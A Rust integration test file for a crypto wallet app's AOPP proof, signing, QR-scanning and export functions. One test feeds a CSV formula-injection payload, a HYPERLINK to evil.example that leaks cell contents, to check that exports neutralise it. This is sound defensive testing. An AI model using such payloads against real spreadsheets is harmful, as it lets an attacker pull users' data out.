//! The commands' plain functions against the real Secret Service (gnome-keyring in a D-Bus
//! session: run through `scripts/desktop-session.sh`, as `scripts/test.sh` does).

use std::path::PathBuf;

use aopp_wallet_lib::api::{DeveloperOptions, WalletApp, DELETE_CONFIRMATION};
use aopp_wallet_lib::language::{Language, LanguageChoice};
use aopp_wallet_lib::proofs::{EthAccount, ExportFormat};
use aopp_wallet_lib::settings::{Settings, SettingsChange};
use aopp_wallet_lib::vault::Vault;
use wallet_core::{AddressFormat, Network};

const ABANDON: &str =
    "abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about";

/// A fresh app with its own data directory and keyring item.
fn app(name: &str) -> (WalletApp, PathBuf) {
    assert!(
        std::env::var_os("DBUS_SESSION_BUS_ADDRESS").is_some(),
        "these tests use the real Secret Service: run them through scripts/desktop-session.sh"
    );
    let dir = std::env::temp_dir().join(format!("aopp-app-test-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let vault = Vault::with_service(&format!("aopp-wallet-test-{name}-{}", std::process::id()));
    let _ = vault.delete();
    (
        WalletApp::open(&dir, vault, DeveloperOptions::default()).unwrap(),
        dir,
    )
}

#[test]
fn import_stores_the_phrase_in_the_keyring_and_nowhere_on_disk() {
    let (app, dir) = app("import");
    assert!(!app.status().unwrap().has_wallet);
    app.import(ABANDON, "TREZOR").unwrap();
    assert!(app.status().unwrap().has_wallet);
    assert_eq!(app.reveal_phrase().unwrap().join(" "), ABANDON);

    // Nothing under the data directory mentions the phrase.
    app.set_settings(SettingsChange::default()).unwrap();
    app.receive_link("aopp:?v=0").unwrap();
    // (The journal is a binary SQLite file: compare bytes.)
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        for needle in [&b"abandon"[..], b"TREZOR"] {
            let found = bytes.windows(needle.len()).any(|window| window == needle);
            assert!(!found, "{}", path.display());
        }
    }
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn a_second_app_on_the_same_item_sees_the_wallet() {
    // As after a restart: the keyring, not the process, holds the wallet.
    let (first, dir) = app("restart");
    first.import(ABANDON, "").unwrap();
    let again = WalletApp::open(
        &dir,
        Vault::with_service(&format!("aopp-wallet-test-restart-{}", std::process::id())),
        DeveloperOptions::default(),
    )
    .unwrap();
    assert!(again.status().unwrap().has_wallet);
    again.delete_wallet(DELETE_CONFIRMATION).unwrap();
    assert!(!first.status().unwrap().has_wallet);
}

#[test]
fn import_refuses_a_bad_phrase_and_stores_nothing() {
    let (app, _) = app("bad-phrase");
    let error = app
        .import(&ABANDON.replace("about", "abandon"), "")
        .unwrap_err();
    assert_eq!(error.code, "bad_checksum");
    assert!(!app.status().unwrap().has_wallet);
}

#[test]
fn created_phrase_is_stored_only_after_the_backup_check() {
    let (app, _) = app("create");
    let draft = app.create_draft();
    assert_eq!(draft.words.len(), 24);
    assert_eq!(draft.quiz.len(), 3);
    assert!(
        draft.quiz.windows(2).all(|pair| pair[0] < pair[1]),
        "ascending, distinct"
    );
    assert!(
        !app.status().unwrap().has_wallet,
        "nothing stored before the check"
    );

    let wrong: Vec<String> = draft.quiz.iter().map(|_| "zoo".to_owned()).collect();
    if draft.quiz.iter().any(|p| draft.words[p - 1] != "zoo") {
        assert_eq!(
            app.confirm_draft(&wrong).unwrap_err().code,
            "backup_mismatch"
        );
        assert!(!app.status().unwrap().has_wallet);
    }
    let right: Vec<String> = draft
        .quiz
        .iter()
        .map(|position| format!(" {} ", draft.words[position - 1].to_uppercase()))
        .collect();
    app.confirm_draft(&right).unwrap();
    assert_eq!(app.reveal_phrase().unwrap(), draft.words);
    assert_eq!(
        app.confirm_draft(&right).unwrap_err().code,
        "no_draft",
        "a draft is used once"
    );
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn delete_needs_the_typed_confirmation() {
    let (app, _) = app("delete");
    app.import(ABANDON, "").unwrap();
    assert_eq!(
        app.delete_wallet("delete").unwrap_err().code,
        "confirmation_mismatch"
    );
    assert!(app.status().unwrap().has_wallet);
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
    assert!(!app.status().unwrap().has_wallet);
    assert_eq!(app.reveal_phrase().unwrap_err().code, "no_wallet");
}

#[test]
fn settings_persist_and_refuse_an_ether_preference() {
    let (app, dir) = app("settings");
    let chosen = Settings {
        network: Network::Signet,
        preferred_format: AddressFormat::P2tr,
        socks5_proxy: Some("socks5://127.0.0.1:9050".into()),
        travel_address: Some("ta2W2HPKfHxgSgrzY178knqXHg1H3jfeQrwQ9JrKBs9wv".into()),
        walletconnect_relay: Some("wss://relay.example.org".into()),
        walletconnect_project_id: None,
        language: Some(Language::Italian),
    };
    app.set_travel_address(chosen.travel_address.as_deref().unwrap())
        .unwrap();
    app.set_settings(SettingsChange {
        network: Some(chosen.network),
        preferred_format: Some(chosen.preferred_format),
        socks5_proxy: chosen.socks5_proxy.clone(),
        walletconnect_relay: chosen.walletconnect_relay.clone(),
        walletconnect_project_id: None,
        language: Some(LanguageChoice::Chosen(Language::Italian)),
    })
    .unwrap();
    assert_eq!(app.language().chosen, Some(Language::Italian));
    let reopened = WalletApp::open(
        &dir,
        Vault::with_service("unused"),
        DeveloperOptions::default(),
    )
    .unwrap();
    assert_eq!(reopened.settings(), chosen);
    let error = app
        .set_settings(SettingsChange {
            preferred_format: Some(AddressFormat::Standard),
            ..SettingsChange::default()
        })
        .unwrap_err();
    assert_eq!(error.code, "not_bitcoin_format");
    let error = app
        .set_settings(SettingsChange {
            socks5_proxy: Some("http://127.0.0.1:8080".into()),
            ..SettingsChange::default()
        })
        .unwrap_err();
    assert_eq!(error.code, "bad_proxy");
}

#[test]
fn links_wait_in_order_and_malformed_ones_carry_their_error() {
    let (app, _) = app("links");
    let good = "aopp:?v=0&msg=hi&asset=btc&format=any&callback=https%3A%2F%2Fvasp.example%2Fp";
    app.receive_link(good).unwrap();
    app.receive_link("aopp:?v=1&msg=hi").unwrap();
    let links = app.links();
    assert_eq!(links.len(), 2);
    assert_eq!(
        links[0].request.as_ref().unwrap().callback_host,
        "vasp.example"
    );
    assert_eq!(links[1].error.as_ref().unwrap().code, "missing_parameter");
    app.dismiss_link(links[0].id).unwrap();
    assert_eq!(app.links().len(), 1);
}

/// `text` as a black-on-white QR code, `module` pixels a module, with a quiet zone.
fn qr_picture(text: &str, module: u32) -> image::GrayImage {
    qrcode::QrCode::new(text.as_bytes())
        .unwrap()
        .render::<image::Luma<u8>>()
        .module_dimensions(module, module)
        .build()
}

/// The same request as a PNG file's bytes.
fn qr_png(text: &str) -> Vec<u8> {
    let mut png = Vec::new();
    image::DynamicImage::ImageLuma8(qr_picture(text, 4))
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    png
}

fn request(message: &str) -> String {
    format!(
        "aopp:?v=0&msg={message}&asset=btc&format=p2wpkh&callback=https%3A%2F%2Fvasp.example%2Fp"
    )
}

#[test]
fn picked_files_dropped_files_and_camera_frames_queue_the_aopp_code() {
    let (app, dir) = app("scan");

    // A picked file arrives as bytes; a dropped one as a path.
    let picked = app.take_image_bytes(&qr_png(&request("Picked"))).unwrap();
    assert_eq!(
        (picked.queued, picked.codes[0].text.clone()),
        (1, request("Picked"))
    );
    let path = dir.join("dropped.png");
    std::fs::write(&path, qr_png(&request("Dropped"))).unwrap();
    let dropped = app.take_files(std::slice::from_ref(&path)).unwrap();
    assert_eq!(dropped.queued, 1);

    // A camera frame: a grey picture with the code off-centre on a darker background.
    let mut frame = image::GrayImage::from_pixel(640, 480, image::Luma([60]));
    image::imageops::overlay(&mut frame, &qr_picture(&request("Camera"), 3), 150, 60);
    let width = frame.width();
    assert_eq!(app.take_frame(width, frame.into_raw()).unwrap().queued, 1);

    // All went into the queue of clicked links, parsed the same way, in order.
    let links: Vec<String> = app.links().into_iter().map(|queued| queued.link).collect();
    assert_eq!(
        links,
        [request("Picked"), request("Dropped"), request("Camera")]
    );
    assert!(app.links().iter().all(|queued| queued.request.is_some()));

    // A code read for its text only (a message to sign) is not queued.
    let read = app.read_codes(&qr_png("Sign this: Zürich")).unwrap();
    assert_eq!(read[0].text, "Sign this: Zürich");
    assert_eq!(app.links().len(), 3);
    let blank = image::GrayImage::from_pixel(64, 64, image::Luma([255]));
    let mut blank_png = Vec::new();
    image::DynamicImage::ImageLuma8(blank)
        .write_to(
            &mut std::io::Cursor::new(&mut blank_png),
            image::ImageFormat::Png,
        )
        .unwrap();
    assert_eq!(
        app.read_codes(&blank_png).unwrap_err().code,
        "no_code_found"
    );

    // The same code seen again (the next camera frame) waits once.
    app.take_image_bytes(&qr_png(&request("Picked"))).unwrap();
    assert_eq!(app.links().len(), 3);
}

#[test]
fn empty_frames_and_wrong_files_find_nothing_and_queue_nothing() {
    let (app, dir) = app("scan-bad");
    let blank = app.take_frame(320, vec![255; 320 * 240]).unwrap();
    assert_eq!((blank.codes.len(), blank.queued), (0, 0));
    assert_eq!(
        app.take_frame(320, vec![0; 321]).unwrap_err().code,
        "bad_frame"
    );
    assert_eq!(
        app.take_frame(0, vec![0; 320]).unwrap_err().code,
        "bad_frame"
    );
    assert_eq!(
        app.take_frame(320, Vec::new()).unwrap_err().code,
        "bad_frame"
    );
    // A frame wider than any camera's is refused before it is decoded.
    assert_eq!(
        app.take_frame(20_000, vec![0; 20_000]).unwrap_err().code,
        "image_too_large"
    );
    let error = app.take_image_bytes(b"GIF89a not a png").unwrap_err();
    assert_eq!(error.code, "unreadable_image");
    let missing = dir.join("no-such-file.png");
    let error = app.take_files(std::slice::from_ref(&missing)).unwrap_err();
    assert_eq!(error.code, "unreadable_file");

    // A code that is not an AOPP request is named for what it is and not queued.
    let address = qr_picture("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", 3);
    let width = address.width();
    let named = app.take_frame(width, address.into_raw()).unwrap();
    assert_eq!(named.queued, 0);
    assert_eq!(named.codes[0].kind, wallet_core::scan::CodeKind::Bitcoin);
    assert!(app.links().is_empty());
}

#[test]
fn saving_settings_keeps_the_travel_address() {
    let (app, dir) = app("merge");
    let travel = "ta2W2HPKfHxgSgrzY178knqXHg1H3jfeQrwQ9JrKBs9wv";
    app.set_travel_address(travel).unwrap();
    // What the Settings screen sends: its three fields, never the Travel Address.
    let change: SettingsChange = serde_json::from_value(serde_json::json!({
        "network": "testnet", "preferred_format": "p2wpkh", "socks5_proxy": ""
    }))
    .unwrap();
    let saved = app.set_settings(change).unwrap();
    assert_eq!(saved.network, Network::Testnet);
    assert_eq!(saved.travel_address.as_deref(), Some(travel));
    let reopened = WalletApp::open(
        &dir,
        Vault::with_service("unused"),
        DeveloperOptions::default(),
    )
    .unwrap();
    assert_eq!(reopened.settings().travel_address.as_deref(), Some(travel));
}

#[test]
fn a_damaged_settings_file_is_kept_aside_and_nothing_is_sent_until_the_user_has_seen_it() {
    let (app, dir) = app("damaged");
    app.import(ABANDON, "").unwrap();
    app.set_settings(SettingsChange {
        socks5_proxy: Some("socks5://127.0.0.1:9".into()),
        ..SettingsChange::default()
    })
    .unwrap();
    drop(app);
    // Cut short, as by a full disk: the proxy must not quietly vanish.
    let settings = dir.join("settings.json");
    let text = std::fs::read(&settings).unwrap();
    std::fs::write(&settings, &text[..text.len() / 2]).unwrap();

    let vault = Vault::with_service(&format!("aopp-wallet-test-damaged-{}", std::process::id()));
    let app = WalletApp::open(&dir, vault, DeveloperOptions::default()).unwrap();
    let status = app.status().unwrap();
    assert_eq!(status.damaged_files.len(), 1);
    let damaged = &status.damaged_files[0];
    assert_eq!(damaged.kind, "settings");
    let kept = damaged.kept_as.clone().expect("kept aside");
    assert_eq!(std::fs::read(&kept).unwrap(), text[..text.len() / 2]);
    assert_eq!(app.settings().socks5_proxy, None);

    app.receive_link(&unreachable_request("Damaged")).unwrap();
    let link = app.links()[0].id;
    let address = app.preview(link, EthAccount::First).unwrap().address;
    assert_eq!(
        app.approve(link, &address, EthAccount::First, false)
            .unwrap_err()
            .code,
        "damaged_files"
    );
    assert!(app.history().unwrap().is_empty(), "nothing signed");
    app.accept_damaged_files();
    assert!(app.status().unwrap().damaged_files.is_empty());
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

/// A request whose callback nobody answers (the discard port on loopback): delivery fails and
/// the proof stays pending.
fn unreachable_request(message: &str) -> String {
    format!(
        "aopp:?v=0&msg={message}&asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2F{message}"
    )
}

#[test]
fn a_link_answered_once_is_not_signed_again_and_its_proof_is_shown() {
    let (app, dir) = app("once");
    app.import(ABANDON, "").unwrap();
    let link = unreachable_request("Once");
    app.receive_link(&link).unwrap();
    let id = app.links()[0].id;
    assert!(app.links()[0].existing_proof.is_none());
    let address = app.preview(id, EthAccount::First).unwrap().address;
    let first = app.approve(id, &address, EthAccount::First, false).unwrap();
    assert_eq!(
        first.record.status,
        wallet_core::journal::ProofStatus::Pending
    );

    // Clicked again (or re-opened from the browser's history).
    app.receive_link(&link).unwrap();
    let again = &app.links()[0];
    let existing = again
        .existing_proof
        .as_ref()
        .expect("the earlier proof is shown");
    assert_eq!(existing.record.id, first.record.id);
    let next = app.preview(again.id, EthAccount::First).unwrap().address;
    assert_eq!(
        app.approve(again.id, &next, EthAccount::First, false)
            .unwrap_err()
            .code,
        "already_proven"
    );
    assert_eq!(app.history().unwrap().len(), 1, "one link, one proof");
    // Still pending: it can be sent again, with the same signature.
    let resent = app.resend(first.record.id).unwrap();
    assert_eq!(resent.record.signature, first.record.signature);

    // Exports never overwrite, and a VASP's message cannot become a spreadsheet formula.
    let exports = dir.join("exports");
    let csv = app.export_history(ExportFormat::Csv, &exports).unwrap();
    let second = app.export_history(ExportFormat::Csv, &exports).unwrap();
    assert_ne!(csv, second);
    assert!(second.ends_with("aopp-wallet-history-2.csv"));
    assert_file_mode(&second, 0o600);
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn a_csv_field_that_reads_as_a_formula_is_made_text() {
    let (app, dir) = app("formula");
    app.import(ABANDON, "").unwrap();
    // =HYPERLINK("http://evil.example?"&A1,"Click") as the VASP's message, percent-encoded.
    app.receive_link(
        "aopp:?v=0&msg=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%3F%22%26A1%2C%22Click%22)\
         &asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fformula",
    )
    .unwrap();
    let id = app.links()[0].id;
    let address = app.preview(id, EthAccount::First).unwrap().address;
    app.approve(id, &address, EthAccount::First, false).unwrap();
    let csv = app.export_history(ExportFormat::Csv, &dir).unwrap();
    let text = std::fs::read_to_string(csv).unwrap();
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example?""&A1,""Click"")""#),
        "{text}"
    );
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[cfg(unix)]
fn assert_file_mode(path: &std::path::Path, expected: u32) {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, expected, "{}", path.display());
}

#[cfg(unix)]
#[test]
fn the_data_directory_and_every_file_in_it_are_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let (_, dir) = app("modes");
    // As a user's login leaves it: umask 022, the directory made by someone else at 0755.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let vault = Vault::with_service(&format!("aopp-wallet-test-modes-{}", std::process::id()));
    let app = WalletApp::open(&dir, vault, DeveloperOptions::default()).unwrap();
    app.set_settings(SettingsChange::default()).unwrap();
    app.receive_link("aopp:?v=0").unwrap();
    assert_file_mode(&dir, 0o700);
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        assert_file_mode(&entry.unwrap().path(), 0o600);
        seen += 1;
    }
    // settings.json, pending-links.json, journal.sqlite3 and its -wal and -shm.
    assert_eq!(seen, 5);
}

#[test]
fn a_wallet_is_never_replaced_by_another() {
    let (app, _) = app("exists");
    app.import(ABANDON, "").unwrap();
    let other = "legal winner thank year wave sausage worth useful legal winner thank yellow";
    assert_eq!(app.import(other, "").unwrap_err().code, "wallet_exists");
    let draft = app.create_draft();
    let answers: Vec<String> = draft
        .quiz
        .iter()
        .map(|position| draft.words[position - 1].to_owned())
        .collect();
    assert_eq!(
        app.confirm_draft(&answers).unwrap_err().code,
        "wallet_exists"
    );
    assert_eq!(app.reveal_phrase().unwrap().join(" "), ABANDON);
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn a_discarded_draft_cannot_be_stored() {
    let (app, _) = app("discard");
    let draft = app.create_draft();
    app.discard_draft();
    let answers: Vec<String> = draft
        .quiz
        .iter()
        .map(|position| draft.words[position - 1].to_owned())
        .collect();
    assert_eq!(app.confirm_draft(&answers).unwrap_err().code, "no_draft");
    assert!(!app.status().unwrap().has_wallet);
}

#[test]
fn status_sees_a_wallet_without_reading_its_secret() {
    let (app, _) = app("status");
    let service = format!("aopp-wallet-test-status-{}", std::process::id());
    // An item this app cannot read: only reading the secret would find that out.
    let mut store = std::process::Command::new("secret-tool")
        .args([
            "store",
            "--label=test",
            "service",
            &service,
            "username",
            "recovery-phrase",
        ])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    store.stdin.take().unwrap().write_all(b"not json").unwrap();
    assert!(store.wait().unwrap().success());
    assert!(app.status().unwrap().has_wallet);
    assert_eq!(app.reveal_phrase().unwrap_err().code, "keyring_corrupt");
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn dropped_fifos_and_directories_are_refused_unread() {
    let (app, dir) = app("drop-kinds");
    std::fs::create_dir_all(&dir).unwrap();
    let fifo = dir.join("code.png");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    for path in [fifo, dir.clone()] {
        assert_eq!(
            app.take_files(std::slice::from_ref(&path))
                .unwrap_err()
                .code,
            "not_a_file"
        );
    }
}

#[test]
fn a_flood_of_links_stops_at_the_cap_with_its_own_error() {
    let (app, _) = app("flood");
    for n in 0..aopp_wallet_lib::link_queue::MAX_LINKS {
        app.receive_link(&format!("aopp:?n={n}")).unwrap();
    }
    assert_eq!(
        app.receive_link("aopp:?n=more").unwrap_err().code,
        "queue_full"
    );
}

fn sign_request(
    message: &str,
    asset: wallet_core::Asset,
    address: serde_json::Value,
) -> aopp_wallet_lib::signing::SignRequest {
    serde_json::from_value(serde_json::json!({
        "message": message, "asset": asset, "address": address,
    }))
    .unwrap()
}

#[test]
fn a_message_signed_with_a_fresh_address_is_recorded_and_its_address_never_reused() {
    use wallet_core::Asset;
    let (app, _) = app("sign-fresh");
    app.import(ABANDON, "").unwrap();
    let message = "Bitvavo: ich bestätige diese Adresse. Zürich";
    let signed = app
        .sign_text(&sign_request(
            message,
            Asset::Btc,
            serde_json::json!({"kind": "fresh", "format": "p2tr"}),
        ))
        .unwrap();
    assert_eq!(signed.record.scheme, "bip322", "taproot's default");
    assert_eq!(signed.record.path, "m/86'/0'/0'/0/0");
    assert!(signed.armored.as_ref().unwrap().contains(message));
    let checked = app.verify_text(
        Asset::Btc,
        &signed.record.address,
        message,
        &signed.record.signature,
    );
    assert!(checked.valid);
    // The armored block, pasted whole into the message field, verifies as it is.
    let armored = app.verify_text(Asset::Btc, "", signed.armored.as_deref().unwrap(), "");
    assert!(armored.valid, "{:?}", armored.error);

    // The next fresh address, for a message or an AOPP proof, is another one.
    let next = app
        .sign_text(&sign_request(
            "m",
            Asset::Btc,
            serde_json::json!({"kind": "fresh", "format": "p2tr"}),
        ))
        .unwrap();
    assert_eq!(next.record.path, "m/86'/0'/0'/0/1");
    let used = app.used_addresses(Asset::Btc).unwrap();
    assert_eq!(used.len(), 2);
    assert_eq!(used[1].address, signed.record.address);

    // Signing again with a used address takes no new index.
    let again = app
        .sign_text(&sign_request(
            "m2",
            Asset::Btc,
            serde_json::json!({"kind": "used", "format": "p2tr", "index": 0}),
        ))
        .unwrap();
    assert_eq!(again.record.address, signed.record.address);
    assert_eq!(app.signed_messages().unwrap().len(), 3);
    let never = sign_request(
        "m",
        Asset::Btc,
        serde_json::json!({"kind": "used", "format": "p2tr", "index": 9}),
    );
    assert_eq!(app.sign_text(&never).unwrap_err().code, "not_used_before");
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn a_typed_address_signs_if_it_is_ours_and_a_sign_in_message_needs_a_second_yes() {
    use wallet_core::Asset;
    let (app, _) = app("sign-typed");
    app.import(ABANDON, "").unwrap();
    // BIP-84's change address m/84'/0'/0'/1/0 of the abandon phrase.
    let change = "bc1q8c6fshw2dlwun7ekn9qwf37cu2rn755upcp6el";
    let typed = app
        .sign_text(&sign_request(
            "m",
            Asset::Btc,
            serde_json::json!({"kind": "typed", "address": change}),
        ))
        .unwrap();
    assert_eq!(typed.record.path, "m/84'/0'/0'/1/0");
    let stranger = serde_json::json!({"kind": "typed", "address": "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"});
    assert_eq!(
        app.sign_text(&sign_request("m", Asset::Btc, stranger))
            .unwrap_err()
            .code,
        "not_our_address"
    );

    let siwe = "example.com wants you to sign in with your Ethereum account:\n0x9858EfFD232B4033E47d90003D41EC34EcaEda94\n\nURI: https://example.com\nVersion: 1\nChain ID: 1\nNonce: 12345678\nIssued At: 2026-12-01T00:00:00Z";
    let eth = serde_json::json!({"kind": "fresh", "format": "standard"});
    let unconfirmed = sign_request(siwe, Asset::Eth, eth.clone());
    assert_eq!(
        app.sign_text(&unconfirmed).unwrap_err().code,
        "sign_in_unconfirmed"
    );
    let mut confirmed = sign_request(siwe, Asset::Eth, eth);
    confirmed.sign_in_confirmed = true;
    let signed = app.sign_text(&confirmed).unwrap();
    assert!(signed.record.signature.starts_with("0x"));
    assert!(signed.armored.is_none(), "the armored block is Bitcoin's");

    let huge = "x".repeat(aopp_wallet_lib::signing::MAX_MESSAGE_BYTES + 1);
    let fresh = serde_json::json!({"kind": "fresh", "format": "p2wpkh"});
    assert_eq!(
        app.sign_text(&sign_request(&huge, Asset::Btc, fresh))
            .unwrap_err()
            .code,
        "message_too_long"
    );
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn the_xpub_goes_with_the_proof_only_when_asked_for_and_agreed_to() {
    let (app, _) = app("xpub");
    app.import(ABANDON, "").unwrap();
    let asking = |name: &str| {
        format!(
            "aopp:?v=0&msg={name}&asset=btc&format=p2wpkh&callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2F{name}&xpub_required=1"
        )
    };
    let approve = |link: &str, send_xpub: bool| {
        app.receive_link(link).unwrap();
        let id = app.links().last().unwrap().id;
        let address = app.preview(id, EthAccount::First).unwrap().address;
        app.approve(id, &address, EthAccount::First, send_xpub)
            .unwrap()
    };
    let agreed = approve(&asking("agreed"), true);
    // BIP-84's account xpub of the abandon phrase.
    let expected = "xpub6CatWdiZiodmUeTDp8LT5or8nmbKNcuyvz7WyksVFkKB4RHwCD3XyuvPEbvqAQY3rAPshWcMLoP2fMFMKHPJ4ZeZXYVUhLv1VMrjPC7PW6V";
    assert_eq!(agreed.record.xpub.as_deref(), Some(expected));
    let json = app
        .proof_text(agreed.record.id, aopp_wallet_lib::proofs::ProofText::Json)
        .unwrap();
    assert!(json.contains(expected), "{json}");
    assert_eq!(approve(&asking("declined"), false).record.xpub, None);
    let not_asked = unreachable_request("notasked");
    assert_eq!(approve(&not_asked, true).record.xpub, None, "never unasked");
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn the_export_holds_the_proofs_and_the_messages_signed_for_pasting_with_their_schemes() {
    use wallet_core::Asset;
    let (app, dir) = app("export-signed");
    app.import(ABANDON, "").unwrap();
    app.receive_link(
        "aopp:?v=0&msg=Proof%20for%20the%20VASP&asset=btc&format=p2wpkh\
         &callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fexport",
    )
    .unwrap();
    let id = app.links()[0].id;
    let address = app.preview(id, EthAccount::First).unwrap().address;
    app.approve(id, &address, EthAccount::First, false).unwrap();
    let signed = app
        .sign_text(
            &serde_json::from_value(serde_json::json!({
                "message": "Kraken: I own this, Zürich", "asset": Asset::Btc,
                "address": {"kind": "fresh", "format": "p2wpkh"}, "scheme": "bip137",
            }))
            .unwrap(),
        )
        .unwrap();

    let csv =
        std::fs::read_to_string(app.export_history(ExportFormat::Csv, &dir).unwrap()).unwrap();
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert!(
        lines[0].starts_with("kind,id,created_at,callback,"),
        "{}",
        lines[0]
    );
    assert!(lines[1].starts_with(r#""aopp","#), "{}", lines[1]);
    assert!(
        lines[1].contains(r#""electrum","Proof for the VASP""#),
        "{}",
        lines[1]
    );
    assert!(lines[2].starts_with(r#""signed","#), "{}", lines[2]);
    assert!(
        lines[2].contains(&format!(
            r#""bip137","Kraken: I own this, Zürich","{}""#,
            signed.record.signature
        )),
        "{}",
        lines[2]
    );

    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(app.export_history(ExportFormat::Json, &dir).unwrap()).unwrap(),
    )
    .unwrap();
    assert_eq!(json["proofs"].as_array().unwrap().len(), 1);
    assert_eq!(json["signed_messages"][0]["scheme"], "bip137");
    assert_eq!(
        json["signed_messages"][0]["address"],
        signed.record.address.as_str()
    );
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
}

#[test]
fn twenty_proofs_without_funds_warn_before_the_twenty_first_and_a_funded_mark_moves_the_count() {
    let (app, dir) = app("gap");
    app.import(ABANDON, "").unwrap();
    let link = |n: u32| {
        format!(
            "aopp:?v=0&msg=Proof%20{n}&asset=btc&format=p2wpkh\
             &callback=https%3A%2F%2F127.0.0.1%3A9%2Fp%2Fgap-{n}"
        )
    };
    let mut proofs = Vec::new();
    for n in 0..20 {
        app.receive_link(&link(n)).unwrap();
        let id = app.links()[0].id;
        let preview = app.preview(id, EthAccount::First).unwrap();
        let gap = preview
            .gap
            .as_ref()
            .expect("a fresh address has a gap count");
        assert!(!gap.next_needs_more_than_default(), "proof {n}: {gap:?}");
        proofs.push(
            app.approve(id, &preview.address, EthAccount::First, false)
                .unwrap(),
        );
    }
    // The 21st would be index 20, after 20 addresses that may all be empty.
    app.receive_link(&link(20)).unwrap();
    let id = app.links()[0].id;
    let gap = app.preview(id, EthAccount::First).unwrap().gap.unwrap();
    assert_eq!((gap.next_index, gap.needed_after_next), (20, 21));
    assert!(gap.next_needs_more_than_default());
    assert_eq!(
        app.receive_address(AddressFormat::P2wpkh, false)
            .unwrap()
            .gap
            .needed,
        21,
        "Receive took index 20"
    );

    // The user says the 10th proof's address (index 9) received coins.
    app.mark_funded(proofs[9].record.id, true).unwrap();
    assert!(app
        .history()
        .unwrap()
        .iter()
        .any(|view| view.record.funded && view.record.index == 9));
    let gap = app.preview(id, EthAccount::First).unwrap().gap.unwrap();
    assert_eq!((gap.next_index, gap.needed_after_next), (21, 12));
    assert!(!gap.next_needs_more_than_default());

    // The descriptors screen: the gap limit to set, the first and last address to look for.
    let view = app.descriptors().unwrap();
    assert_eq!(view.fingerprint, "73c5da0a");
    let wpkh = &view.accounts[0];
    assert_eq!(
        wpkh.format,
        AddressFormat::P2wpkh,
        "the used format comes first"
    );
    assert_eq!((wpkh.gap.highest_used, wpkh.gap_limit), (Some(20), 20));
    assert_eq!(
        wpkh.first_address,
        "bc1qcr8te4kr609gcawutmrza0j4xv80jy8z306fyu"
    );
    assert_eq!(
        wpkh.last_address.as_deref(),
        Some(
            app.receive_address(AddressFormat::P2wpkh, false)
                .unwrap()
                .address
                .as_str()
        )
    );
    app.mark_funded(proofs[9].record.id, false).unwrap();
    assert_eq!(app.descriptors().unwrap().accounts[0].gap_limit, 21);
    app.delete_wallet(DELETE_CONFIRMATION).unwrap();
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn the_bitcoin_core_file_imports_both_chains_of_each_used_format_from_its_first_use() {
    use aopp_wallet_lib::descriptors::DescriptorExport;
    let (app, dir) = app("core-import");
    app.import(ABANDON, "").unwrap();
    let exports = dir.join("exports");
    assert_eq!(
        app.export_descriptors(DescriptorExport::BitcoinCore, &exports)
            .unwrap_err()
            .code,
        "nothing_handed_out"
    );
    app.receive_address(AddressFormat::P2tr, true).unwrap();
    let path = app
        .export_descriptors(DescriptorExport::BitcoinCore, &exports)
        .unwrap();
    assert_file_mode(&path, 0o600);
    let requests: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let requests = requests.as_array().unwrap();
    assert_eq!(
        requests.len(),
        2,
        "taproot's receive and change chains only"
    );
    let view = app.descriptors().unwrap();
    let tr = view
        .accounts
        .iter()
        .find(|account| account.format == AddressFormat::P2tr)
        .unwrap();
    assert_eq!(requests[0]["desc"], tr.receive.as_str());
    assert_eq!(requests[1]["desc"], tr.change.as_str());
    assert_eq!(
        (
            requests[0]["internal"].as_bool(),
            requests[1]["internal"].as_bool()
        ),
        (Some(false), Some(true))
    );
    assert_eq!(requests[0]["range"], serde_json::json!([0, 999]));
    assert_eq!(requests[0]["timestamp"], tr.first_use.unwrap());
    assert_eq!(requests[0]["active"], true);

    let sparrow = app
        .export_descriptors(DescriptorExport::Sparrow(AddressFormat::P2wpkh), &exports)
        .unwrap();
    let text = std::fs::read_to_string(sparrow).unwrap();
    assert!(
        text.starts_with("wpkh([73c5da0a/84'/0'/0']xpub6CatWdiZ"),
        "{text}"
    );
    assert_eq!(
        app.export_descriptors(DescriptorExport::Sparrow(AddressFormat::Standard), &exports)
            .unwrap_err()
            .code,
